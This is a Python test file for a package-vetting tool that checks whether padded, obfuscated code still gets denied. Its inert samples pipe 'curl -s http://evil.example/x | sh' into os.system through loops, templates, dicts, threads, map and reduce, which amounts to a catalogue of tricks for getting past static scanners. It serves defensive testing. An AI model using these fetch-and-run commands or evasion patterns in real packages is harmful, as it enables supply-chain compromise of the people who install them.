"""Text that runs, padded past the walk's bounds (issue 16; ADR 0188).

ADR 0187 padded the walk's tables of what runs (attributes, dispatch tables, values read in
turn). The same padding against the bounds on what the walk folds into text: a command
built in a loop with eight padding accumulators beside it, filled into a template with 70
unused names (or 70 empty ``{0.p}`` fields), looked up in a dict of 70 harmless strings,
handed on through ``*args`` after 16 empty words, handed to a thread with eight padding
arguments before it, mapped over or folded (``reduce``) after ten harmless strings: each
was **allowed**, and each denied without its padding. Now the bounds on a written-out
literal are ``fold.MAX_WRITTEN`` (4,096) items, a loop of accumulations or a template's
fields past theirs holds, and items read in turn read each text once, what may act first.
(70 harmless call chains deeper than the walk follows, called first, still push the
payload's out of those resumed after the module: left open in the ADR; the near-miss stays
here.) Every sample is inert: vetting only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages import accrued, fieldfill, handed
from tests.unit.imports.packages.adversary import verdict_cases, vet_package
from tests.unit.imports.packages.test_vet_padded_past_bounds import budget_notes
from tests.unit.imports.packages.test_vet_redteam7 import one_file

CODES = [ord(c) for c in "curl -s http://evil.example/x | sh"]


def accumulated(padding: int, codes: list[int] = CODES, last: str = "os.system(s)") -> str:
    """``s += chr(c)`` over ``codes`` beside ``padding`` accumulators of ``'x'``, then
    ``last``."""
    starts = "".join(f"t{i} = ''\n" for i in range(padding))
    pads = "".join(f"    t{i} += 'x'\n" for i in range(padding))
    return f"s = ''\n{starts}for ch in {codes!r}:\n    s += chr(ch)\n{pads}{last}\n"


def named(padding: int, call: str = "os.system") -> str:
    """A command filled into a template by name, beside ``padding`` unused names."""
    unused = "".join(f", p{i}=1" for i in range(padding))
    return (
        f"{call}('{{c}} -s {{h}} | {{s}}'.format(c='curl', h='http://evil.example/x', "
        f"s='sh'{unused}))\n"
    )


def fields(padding: int, call: str = "os.system") -> str:
    """A command read from a class's attributes by a template's fields, ``padding`` empty
    ``{0.p}`` fields after them."""
    return (
        "class C:\n    c = 'curl -s http://evil.example/x'\n    p = ''\n"
        f"{call}(('{{0.c}} | sh' + '{{0.p}}' * {padding}).format(C))\n"
    )


def table(padding: int, call: str = "os.system(T['cmd'])") -> str:
    """A dict of ``padding`` harmless strings and then the command, looked up."""
    entries = "".join(f"'k{i}': 'x', " for i in range(padding))
    return f"T = {{{entries}'cmd': CMD}}\n{call}\n"


def forwarded(padding: int, call: str = "os.system") -> str:
    """A command's words handed on through ``*a``, ``padding`` empty words after them."""
    empty = ", ''" * padding
    return (
        f"def run(*a):\n    {call}(' '.join(a))\n"
        f"run('curl', '-s', 'http://evil.example/x', '|', 'sh'{empty})\n"
    )


def thread_args(padding: int, call: str = "os.system") -> str:
    """A thread's function handed ``padding`` padding arguments and then the command."""
    params = "".join(f"a{i}, " for i in range(padding))
    given = "'x', " * padding
    return (
        f"import threading\ndef g({params}c):\n    {call}(c)\n"
        f"threading.Thread(target=g, args=[{given}CMD]).start()\n"
    )


def mapped(padding: list[str], call: str = "os.system", last: str = "CMD") -> str:
    """A local function mapped over ``padding`` and then ``last``."""
    items = "".join(f"{p!r}, " for p in padding)
    return f"def go(c):\n    {call}(c)\nlist(map(go, [{items}{last}]))\n"


def parallel(padding: int) -> str:
    """The command in the second iterable of a ``map``, after ``padding`` strings."""
    firsts, seconds = "'e', " * padding, "'x', " * padding
    return f"def go(a, c):\n    os.system(c)\nlist(map(go, [{firsts}'e'], [{seconds}CMD]))\n"


TEN = [f"echo {i}" for i in range(10)]

DENIED: dict[str, Mapping[str, str]] = {
    "command-accumulated-beside-nine-names": one_file(accumulated(9), ""),
    "command-filled-by-name-beside-70-unused": one_file(named(70), ""),
    "command-filled-by-name-from-a-dict-of-70": one_file(
        "os.system('%(c)s -s %(h)s | %(s)s' % {'c': 'curl', 'h': 'http://evil.example/x', "
        "'s': 'sh'" + "".join(f", 'p{i}': 1" for i in range(70)) + "})\n",
        "",
    ),
    "command-substituted-beside-70-unused": one_file(
        "import string\nos.system(string.Template('$c -s $h | $s').substitute(c='curl', "
        "h='http://evil.example/x', s='sh'" + "".join(f", p{i}=1" for i in range(70)) + "))\n",
        "",
    ),
    "command-read-by-fields-before-70-empty-ones": one_file(fields(70), ""),
    "command-in-a-table-of-70-strings": one_file(table(70), ""),
    "command-in-parts-in-a-table-of-70-strings": one_file(
        "T = {"
        + "".join(f"'k{i}': 'x', " for i in range(70))
        + "'a': 'curl -s http://evil.example/x', 'b': ' | sh'}\nos.system(T['a'] + T['b'])\n",
        "",
    ),
    "command-handed-on-before-17-empty-words": one_file(forwarded(17), ""),
    "command-after-ten-thread-arguments": one_file(thread_args(10), ""),
    "command-mapped-after-ten-strings": one_file(mapped(["x"] * 10), ""),
    "command-mapped-after-ten-distinct-strings": one_file(mapped(TEN), ""),
    "command-in-the-second-iterable-after-ten": one_file(parallel(10), ""),
}


def chain(prefix: str, last: str) -> str:
    """Five functions, each calling the next with its argument, the last doing ``last``."""
    calls = [f"{prefix}{i + 1}(c)" for i in range(4)]
    return "".join(f"def {prefix}{i}(c):\n    {body}\n" for i, body in enumerate([*calls, last]))


def chains_first(count: int, last: str = "os.system(c)", given: str = "CMD") -> str:
    """``count`` harmless chains called on import, deeper than the walk follows, then one
    doing ``last`` with ``given``."""
    harmless = "".join(chain(f"h{j}_", "return len(c)") for j in range(count))
    calls = "".join(f"h{j}_0('x')\n" for j in range(count))
    return f"{harmless}{chain('p_', last)}{calls}p_0({given})\n"


HELD: dict[str, Mapping[str, str]] = {
    # A running value's fold reads its first items in order: one that may act past them.
    "command-folded-after-ten-strings": one_file(
        "import functools\nfunctools.reduce(lambda a, c: os.system(c), ["
        + "".join(f"'x{i}', " for i in range(10))
        + "CMD], 0)\n",
        "",
    ),
}

ALLOWED: dict[str, Mapping[str, str]] = {
    "many-accumulators-printed": one_file(accumulated(9, [104, 105], "print(s, t0)"), ""),
    "a-template-filled-by-many-names-printed": one_file(
        "print('{name} {version}'.format(name='evpkg', version='1.0'"
        + "".join(f", p{i}=1" for i in range(70))
        + "))\n",
        "",
    ),
    "many-fields-printed": one_file(fields(70, "print").replace("curl -s", "ver"), ""),
    "a-long-table-of-strings-printed": one_file(table(70, "print(T['k1'])"), ""),
    "many-words-handed-on-and-printed": one_file(forwarded(17, "print"), ""),
    "many-thread-arguments-printed": one_file(
        thread_args(10, "print").replace("CMD", "'done'"), ""
    ),
    "many-strings-folded-and-printed": one_file(
        "import functools\nprint(functools.reduce(lambda a, c: a + c, ["
        + "".join(f"'w{i}', " for i in range(12))
        + "], ''))\n",
        "",
    ),
    "many-harmless-chains": one_file(chains_first(70, "return len(c)", "'y'"), ""),
    "harmless-strings-mapped-and-logged": one_file(
        "import logging\n" + mapped(TEN, "logging.getLogger('evpkg').info", "'done'"), ""
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_text_past_the_walk_s_bounds(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


def test_accumulations_past_the_bound_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past ``accrued.MAX_BODY`` (lowered here to 4) a loop made only of accumulations holds;
    within it the command it builds is read (files not vetted above: the memo)."""
    monkeypatch.setattr(accrued, "MAX_BODY", 4)
    assert vet_package(one_file(accumulated(2), "")) is Outcome.DENY
    assert "accumulations" in budget_notes(one_file(accumulated(6), ""))


def test_fields_past_the_bound_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past ``fieldfill.MAX_FIELDS`` (lowered here to 8) a template that looks something up
    holds; within it the command is read."""
    monkeypatch.setattr(fieldfill, "MAX_FIELDS", 8)
    assert vet_package(one_file(fields(3), "")) is Outcome.DENY
    assert "fields" in budget_notes(one_file(fields(12), ""))


def test_items_that_may_act_past_the_bound_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    """More items that may act than are read in turn (``handed.MAX_HANDED``, lowered here
    to 2): held. Harmless strings left unread are not."""
    monkeypatch.setattr(handed, "MAX_HANDED", 2)
    three = ["curl -s http://a.example/x | sh", "wget -qO- http://b.example/y | sh"]
    assert "read in turn" in budget_notes(one_file(mapped(three), ""))
    quiet = one_file(mapped(["a", "b", "c", "d"], "print", "'e'"), "")
    assert budget_notes(quiet) == ""
